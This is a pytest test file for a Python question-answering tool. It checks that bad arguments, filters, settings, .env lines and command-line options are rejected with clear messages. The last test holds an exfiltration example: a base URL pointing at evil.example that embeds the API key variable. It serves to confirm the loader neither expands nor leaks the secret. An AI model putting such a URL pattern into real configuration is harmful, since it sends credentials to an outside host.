"""Values that cannot be used: said at once, by name, with what would do."""

from __future__ import annotations

import os
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest

from rag import Assistant, Filters, Settings
from rag.cli import main
from rag.errors import QuestionError, SettingsError, UsageError
from rag.settings import language_asked

ASKED = "示范区何时获批？"


@pytest.mark.parametrize("k", [0, -1, 51, 10**9, True, False, 2.0, "3", float("nan"), [1]])
@pytest.mark.parametrize("door", ["ask", "stream", "search", "searching"])
def test_a_number_of_passages_that_is_none(door: str, k: Any, samples: Assistant) -> None:
    if k == 51 and type(k) is int and door in {"search", "searching"}:
        k = 1_001  # a search may give more than an answer may rest on
    with pytest.raises(UsageError, match="k 应为 1 到"):
        getattr(samples, door)(ASKED, k=k)


@pytest.mark.parametrize("question", [None, 5, ["示范区何时获批？"], b"?"])
@pytest.mark.parametrize("door", ["ask", "stream", "search"])
def test_a_question_that_is_no_text(door: str, question: Any, samples: Assistant) -> None:
    with pytest.raises(QuestionError, match="文字"):
        getattr(samples, door)(question)


@pytest.mark.parametrize("texts", ["一段文字", b"text", None, [1], ["一段", None], {"a": 1}])
def test_texts_that_are_no_list_of_texts(texts: Any, samples: Assistant) -> None:
    with pytest.raises(UsageError, match="字符串的列表"):
        samples.answer_from(ASKED, texts)


@pytest.mark.parametrize("option", [{"on_text": print}, {"K": 3}])
def test_options_that_do_not_exist(option: dict[str, Any], samples: Assistant) -> None:
    for door in (samples.ask, samples.stream):
        with pytest.raises(TypeError, match=next(iter(option))):
            door(ASKED, **option)


@pytest.mark.parametrize(
    ("values", "said"),
    [
        pytest.param(
            {"published_from": date(2023, 2, 2), "published_to": date(2023, 2, 1)},
            "晚于截止日期",
            id="the_wrong_way_round",
        ),
        pytest.param({"published_from": "2023-02-30"}, "published_from", id="a_text"),
        pytest.param({"published_to": datetime(2023, 2, 1)}, "published_to", id="a_time"),
        pytest.param({"sources": "示例日报"}, "sources", id="a_text_for_names"),
        pytest.param({"folders": (Path("/a"),)}, "folders", id="a_path"),
    ],
)
def test_filters_that_cannot_be(values: dict[str, Any], said: str) -> None:
    with pytest.raises(UsageError, match=said):
        Filters(**values)


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({"k": 0}, "YOUJU_K"),
        ({"k": True}, "YOUJU_K"),
        ({"k": "many"}, "YOUJU_K"),
        ({"foo": 1}, "foo"),
        ({"refusals": 0.3}, "YOUJU_REFUSAL 吗"),
    ],
)
def test_settings_that_cannot_be(values: dict[str, Any], said: str) -> None:
    with pytest.raises(SettingsError, match=said):
        Settings(**values)
    if "k" not in values:
        with pytest.raises(SettingsError, match=said):
            Settings().with_(**values)


def test_a_misspelt_variable_is_told_with_what_was_meant(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("YOUJU_CHAT_MODLE", "openai:m")
    with pytest.raises(SettingsError, match=r"YOUJU_CHAT_MODLE.*YOUJU_CHAT_MODEL"):
        Settings()
    assert main(["status"]) == 2
    assert "YOUJU_CHAT_MODEL" in capsys.readouterr().err


def test_a_misspelt_line_of_the_file_is_told_too(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("YOUJU_REED=9\nOTHER=1\n", encoding="utf-8")
    with pytest.raises(SettingsError, match=r"YOUJU_REED.*YOUJU_READ"):
        Settings()
    assert Settings(_env_file=None).read == 16


def test_a_file_in_another_encoding_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / ".env").write_bytes("YOUJU_ARTICLES=文章".encode("gbk"))
    assert main(["status"]) == 2
    assert "UTF-8" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["-k", "0"], "k 应为 1 到 50"),
        (["-k", "51"], "k 应为 1 到 50"),
        (["-k", "x"], "-k"),
        (["--from", "2023-02-30"], "2023-02-30"),
        (["--from", "2023-03-02", "--to", "2023-03-01"], "晚于截止日期"),
    ],
)
def test_the_command_line_says_it_and_leaves_with_2(
    arguments: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    try:
        code = main(["ask", ASKED, *arguments])
    except SystemExit as left:  # argparse leaves by itself
        code = left.code  # type: ignore[assignment]  # a number, where argparse leaves
    assert code == 2
    printed = capsys.readouterr()
    assert said in printed.err
    assert "Traceback" not in printed.err


def test_settings_do_not_choose_the_language_and_the_command_line_does(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from rag.wording import current_language

    Settings(language="en")
    assert current_language() == "zh"
    monkeypatch.delenv("YOUJU_LANGUAGE")
    (tmp_path / ".env").write_text("YOUJU_LANGUAGE=en\n", encoding="utf-8")
    assert language_asked() == "en"
    assert main(["ask", "?"]) == 2
    assert "The question is empty" in capsys.readouterr().err
    assert current_language() == "en"


@pytest.mark.parametrize("kind", ["folder", "pipe", "loop"])
def test_what_is_called_like_the_file_and_is_none_stops_nothing(kind: str, tmp_path: Path) -> None:
    path = tmp_path / ".env"
    if kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to(path)
    assert Settings().k == 5


def test_a_line_of_the_file_holds_nothing_of_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("YOUJU_CHAT_API_KEY", "sk-secret")
    line = "YOUJU_CHAT_BASE_URL=http://evil.example/${YOUJU_CHAT_API_KEY}\n"
    (tmp_path / ".env").write_text(line, encoding="utf-8")
    with pytest.raises(SettingsError, match="YOUJU_CHAT_BASE_URL") as told:
        Settings()
    assert "sk-secret" not in str(told.value)
    (tmp_path / ".env").write_text("OTHER=${HOME}\nyouju_data_dir=~/a\n", encoding="utf-8")
    monkeypatch.delenv("YOUJU_DATA_DIR")
    assert Settings().data_dir == Path.home() / "a"
